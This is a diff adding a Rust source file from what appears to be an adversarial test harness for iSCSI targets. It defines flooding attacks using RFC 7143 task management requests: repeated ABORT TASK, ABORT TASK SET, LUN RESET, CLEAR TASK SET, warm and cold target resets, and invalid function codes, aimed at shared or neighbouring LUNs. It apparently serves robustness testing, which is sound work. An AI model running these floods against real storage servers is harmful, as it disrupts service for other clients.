@@ -1,0 +1,120 @@
+//! Task management without end. RFC 7143 §11.5.
+//!
+//! By default every initiator may reset what it can reach, as the standard has it; so resets go to
+//! a LUN or a target beside the well-behaved client's, and aborts to the attacker's own tasks.
+
+use crate::adversary::attacker::{Attack, Attacker, Destination};
+use crate::adversary::cdb;
+use crate::adversary::flood::Flood;
+use crate::adversary::server::SHARED_LBA;
+use crate::adversary::session::{Session, flags};
+use anyhow::Result;
+
+const ABORT_TASK: u8 = 1;
+const ABORT_TASK_SET: u8 = 2;
+const CLEAR_ACA: u8 = 3;
+const CLEAR_TASK_SET: u8 = 4;
+const LUN_RESET: u8 = 5;
+const TARGET_WARM_RESET: u8 = 6;
+const TARGET_COLD_RESET: u8 = 7;
+const TASK_REASSIGN: u8 = 8;
+
+/// The attacks of this file.
+pub const ATTACKS: &[Attack] = &[
+    Attack::new("abort-unknown-tasks", 4, |attacker| {
+        requests(attacker, Destination::Shared, ABORT_TASK)
+    })
+    .summary("ABORT TASK for tags that do not exist, on the shared LUN"),
+    Attack::new("abort-own-tasks", 4, abort_own)
+        .summary("WRITEs and READs on the shared LUN, each followed by its ABORT TASK"),
+    Attack::new("abort-task-set", 4, |attacker| {
+        working(attacker, Destination::Shared, ABORT_TASK_SET)
+    })
+    .summary("READs of 1 MiB on the shared LUN and ABORT TASK SET between them"),
+    Attack::new("lun-reset", 4, |attacker| working(attacker, Destination::Neighbour, LUN_RESET))
+        .summary("READs of 1 MiB and LUN RESET between them, on a neighbour LUN"),
+    Attack::new("clear-task-set", 4, |attacker| {
+        working(attacker, Destination::Neighbour, CLEAR_TASK_SET)
+    })
+    .summary("READs of 1 MiB and CLEAR TASK SET between them, on a neighbour LUN"),
+    Attack::new("warm-reset", 4, |attacker| {
+        requests(attacker, Destination::Own, TARGET_WARM_RESET)
+    })
+    .summary("TARGET WARM RESET of a target of its own without end"),
+    Attack::new("cold-reset", 4, |attacker| {
+        requests(attacker, Destination::Own, TARGET_COLD_RESET)
+    })
+    .summary("TARGET COLD RESET of a target of its own without end, with new logins"),
+    Attack::new("functions-of-all-kinds", 4, all_kinds)
+        .summary("CLEAR ACA, TASK REASSIGN and functions that do not exist"),
+    Attack::new("management-unread", 4, unread)
+        .summary("ABORT TASK and LUN RESET of a neighbour LUN, answers unread"),
+];
+
+fn requests(attacker: &Attacker, destination: Destination, function: u8) -> Result<()> {
+    Flood::new(4, destination).reading(
+        attacker,
+        move |session| {
+            let tag = session.random.next_u64() as u32;
+            let request = session.task_management(function, tag, session.cmd_sn);
+            session.queue(&request);
+        },
+        |_, _| {},
+    )
+}
+
+fn abort_own(attacker: &Attacker) -> Result<()> {
+    Flood::new(4, Destination::Shared).reading(
+        attacker,
+        |session| {
+            let lba = u64::from(SHARED_LBA);
+            let command = if session.random.below(2) == 0 {
+                session.command(flags::SIMPLE | flags::READ, &cdb::read(0, 2048), 1 << 20)
+            } else {
+                session.command(flags::SIMPLE | flags::WRITE, &cdb::write(lba, 2048), 1 << 20)
+            };
+            session.queue(&command);
+            let abort = session.task_management(ABORT_TASK, command.u32_at(16), command.u32_at(24));
+            session.queue(&abort);
+        },
+        // R2Ts are answered though their task may be gone by then.
+        Session::keep_r2t,
+    )
+}
+
+/// Reads of 1 MiB, one request in sixteen is the function.
+fn working(attacker: &Attacker, destination: Destination, function: u8) -> Result<()> {
+    Flood::new(4, destination).reading(
+        attacker,
+        move |session| {
+            let request = if session.random.below(16) == 0 {
+                session.task_management(function, u32::MAX, session.cmd_sn)
+            } else {
+                session.command(flags::SIMPLE | flags::READ, &cdb::read(0, 2048), 1 << 20)
+            };
+            session.queue(&request);
+        },
+        |_, _| {},
+    )
+}
+
+fn all_kinds(attacker: &Attacker) -> Result<()> {
+    Flood::new(4, Destination::Shared).reading(
+        attacker,
+        |session| {
+            let beyond = 9 + session.random.below(119) as u8;
+            let function = [CLEAR_ACA, TASK_REASSIGN, 0, beyond][session.random.below(4) as usize];
+            let request = session.task_management(function, 1, session.cmd_sn);
+            session.queue(&request);
+        },
+        |_, _| {},
+    )
+}
+
+fn unread(attacker: &Attacker) -> Result<()> {
+    Flood::new(4, Destination::Neighbour).with_small_buffers().unread(attacker, |session| {
+        let function = [ABORT_TASK, LUN_RESET][session.random.below(2) as usize];
+        let request = session.task_management(function, 1, session.cmd_sn);
+        session.queue(&request);
+    })
+}
